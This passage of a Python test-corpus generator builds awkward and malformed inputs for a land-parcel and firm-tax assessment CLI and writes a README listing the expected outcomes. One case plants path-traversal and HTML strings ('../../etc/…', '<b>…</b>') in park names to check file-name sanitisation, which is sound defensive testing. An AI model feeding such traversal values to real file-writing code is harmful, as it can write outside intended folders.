      "bow-tie repaired (INVALID_GEOMETRY, repaired; 2 triangles); empty, null, point and sliver dropped and listed "
      "(EMPTY_GEOMETRY, NULL_GEOMETRY, NOT_POLYGON, INVALID_GEOMETRY); the 4 good parcels kept",
      ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    feats = [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i])]}) for i in range(4)]
    bow = [[X0 + 600, Y0], [X0 + 700, Y0 + 100], [X0 + 700, Y0], [X0 + 600, Y0 + 100], [X0 + 600, Y0]]
    feats += [
        ({"宗地代码": "511302001001GB00005"}, {"type": "Polygon", "coordinates": [bow]}),
        ({"宗地代码": "511302001001GB00006"}, {"type": "Polygon", "coordinates": []}),
        ({"宗地代码": "511302001001GB00007"}, None),
        ({"宗地代码": "511302001001GB00008"}, {"type": "Point", "coordinates": [X0 + 800, Y0]}),
        ({"宗地代码": "511302001001GB00009"}, {"type": "Polygon", "coordinates": [[[X0 + 900, Y0], [X0 + 950, Y0],
                                                                                [X0 + 1000, Y0], [X0 + 900, Y0]]]}),
    ]
    geojson(d / "parcels.geojson", feats)


@case("z_coordinates", "layers", "3-D polygons (Z = 312.5 m)", "Z dropped and listed once (Z_DROPPED); areas in 2-D",
      ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i], z=312.5)]})
                                    for i in range(4)])


@case("dup_parcel_id", "layers", "two features with the same 宗地代码 (P4's code on a fifth polygon)",
      "both kept and listed (DUPLICATE_PARCEL_ID); 丁 links to both (4.5 + 6 亩 = 10.5 亩)",
      ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    feats = [(props(i), {"type": "Polygon", "coordinates": [ring(*RECTS[i])]}) for i in range(4)]
    feats.append((props(3), {"type": "Polygon", "coordinates": [ring(600, 0, 100, 40)]}))
    geojson(d / "parcels.geojson", feats)


@case("no_id_field", "layers", "a parcel layer whose code field is called 编号 (not a known name)",
      "exit 2: lists the accepted names and the layer's fields; suggests --parcel-id", ["--parcels", "@/parcels.geojson"],
      exit_code=2)
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [({"编号": PIDS[i]}, {"type": "Polygon", "coordinates": [ring(*RECTS[i])]})
                                    for i in range(4)])


@case("no_id_field_given", "layers", "the same layer with --parcel-id 编号", "read; codes linked",
      ["--parcels", "@/../no_id_field/parcels.geojson", "--parcel-id", "编号"])
def _(d: Path) -> None:
    pass


@case("empty_layer", "layers", "a parcel layer with no features", "exit 2: no usable parcel",
      ["--parcels", "@/parcels.geojson"], exit_code=2)
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [])


@case("all_null_geometry", "layers", "a parcel layer whose every geometry is null", "exit 2: no usable parcel "
      "(4 features, NULL_GEOMETRY 4)", ["--parcels", "@/parcels.geojson"], exit_code=2)
def _(d: Path) -> None:
    geojson(d / "parcels.geojson", [(props(i), None) for i in range(4)])


@case("layer_is_csv", "layers", "parcels.gpkg that is really a CSV", "exit 2: cannot be read as a vector layer; "
      "check the extension", ["--parcels", "@/parcels.gpkg"], exit_code=2)
def _(d: Path) -> None:
    write_csv(d / "parcels.gpkg", [HEAD, *base_firms()])


@case("parcels_missing", "paths", "--parcels names a file that does not exist", "exit 2: names the file",
      ["--parcels", "@/nope.gpkg"], exit_code=2)
def _(d: Path) -> None:
    pass


# --------------------------------------------------------------------------------------------------
# links, options, names
# --------------------------------------------------------------------------------------------------
@case("links_awkward", "links", "a link table with a credit code not in the firm table, an unknown parcel code and "
      "shares over 1 on P3 (0.7 + 0.6)",
      "unknown rows listed (LINK_FIRM_NOT_FOUND, PARCEL_NOT_FOUND); P3's shares normalised (SHARES_EXCEED_ONE): "
      "丙 0.7/1.3 and 乙 0.6/1.3 of 45 亩", ["--firms", "@/firms.csv", "--links", "@/links.csv"])
def _(d: Path) -> None:
    rows = base_firms()
    rows[1][2] = ""
    rows[2][2] = ""
    write_csv(d / "firms.csv", [HEAD, *rows])
    write_csv(d / "links.csv", [["统一社会信用代码", "宗地代码", "用地比例"], [_uscc(3), PIDS[2], 0.7],
                                [_uscc(2), PIDS[2], 0.6], [_uscc(9), PIDS[0], 0.5], [_uscc(2), "511302001001GB09999", 1]],
              encoding="gbk")


@case("park_names_hostile", "names", "park names with '/', '..' and HTML in the parcel layer "
      "(../../etc/一园, a/b\\c, <b>三园</b>)",
      "read; names kept as data; `parkland map --per-park` writes only sanitised file names inside the map folder",
      ["--parcels", "@/parcels.geojson"])
def _(d: Path) -> None:
    parks = ["../../etc/一园", "../../etc/一园", "a/b\\c", "<b>三园</b>"]
    geojson(d / "parcels.geojson", [({"宗地代码": PIDS[i], "园区": parks[i]}, {"type": "Polygon",
                                     "coordinates": [ring(*RECTS[i])]}) for i in range(4)])


@case("policy_missing", "options", "--policy names a file that does not exist", "exit 2: names the policy",
      ["--policy", "@/nope.toml"], exit_code=2)
def _(d: Path) -> None:
    pass


@case("policy_broken", "options", "a policy file that is not valid TOML", "exit 2: names the file and the line",
      ["--policy", "@/policy.toml"], exit_code=2)
def _(d: Path) -> None:
    (d / "policy.toml").write_text('schema = 1\n[policy\nname = "x"\n', encoding="utf-8")


@case("as_of_bad", "options", "--as-of 2025-13-45", "exit 2: the date is not understood", ["--as-of", "2025-13-45"],
      exit_code=2)
def _(d: Path) -> None:
    pass


@case("raster_bad_spec", "options", "--raster without NAME=", "exit 2: --raster takes NAME=PATH",
      ["--raster", "ndvi.tif"], exit_code=2)
def _(d: Path) -> None:
    pass


# --------------------------------------------------------------------------------------------------
def resolve(args: list[str], case_dir: Path) -> list[str]:
    """Case arguments with ``@/`` → the case folder and the base park added where not given."""
    out = [a.replace("@/", f"{case_dir}/") for a in args]
    if "--parcels" not in out:
        out = ["--parcels", str(BASE / "parcels.gpkg"), "--parcels-layer", "zongdi", *out]
    if "--firms" not in out:
        out += ["--firms", str(BASE / "firms.csv")]
    return out


def readme() -> str:
    lines = [
        "# Awkward and hostile inputs",
        "",
        "Generated by `make_corpus.py` (run it from the repository root to rebuild `base/`, `cases/` and this file);",
        "`tests/test_awkward.py` runs every case in-process (`parkland assess` through click's CliRunner) and",
        "checks the outcome below. `@` is the case folder; cases that name no `--parcels` / `--firms` use",
        "`base/parcels.gpkg` (layer `zongdi`: four parcels of 30, 15, 45 and 4.5 亩 in EPSG:4523) and",
        "`base/firms.csv` (甲 tax 60 万元 on P1, 乙 15 on P2, 丙 90 on P3, 丁 9 on P4: 2, 1, 2, 2 万元/亩).",
        "",
        "Exit 0 = read (what could not be used is in reconciliation.csv); exit 2 = unusable, at most three lines naming",
        "file, row and column and what to do, never a traceback.",
        "",
        f"{len(CASES)} cases.",
        "",
        "| # | case | group | input | arguments | exit | expected outcome |",
        "|---|---|---|---|---|---|---|",
    ]
    for i, c in enumerate(CASES, 1):
        args = " ".join(c.args).replace("|", "\\|")
        lines.append(f"| {i} | `{c.id}` | {c.group} | {c.title.replace('|', '/')} | `{args}` | {c.exit_code} | "
                     f"{c.outcome.replace('|', '/')} |")
    lines.append("")
    return "\n".join(lines)


def main() -> None:
    shutil.rmtree(CASES_DIR, ignore_errors=True)
    shutil.rmtree(BASE, ignore_errors=True)
    make_base()
    for c in CASES:
        d = CASES_DIR / c.id
        d.mkdir(parents=True, exist_ok=True)
        c.make(d)
        if not any(d.iterdir()):
            (d / ".keep").write_text("", encoding="utf-8")
    (HERE / "README.md").write_text(readme(), encoding="utf-8")
    print(f"{len(CASES)} cases written to {CASES_DIR}", file=sys.stderr)


if __name__ == "__main__":
    main()
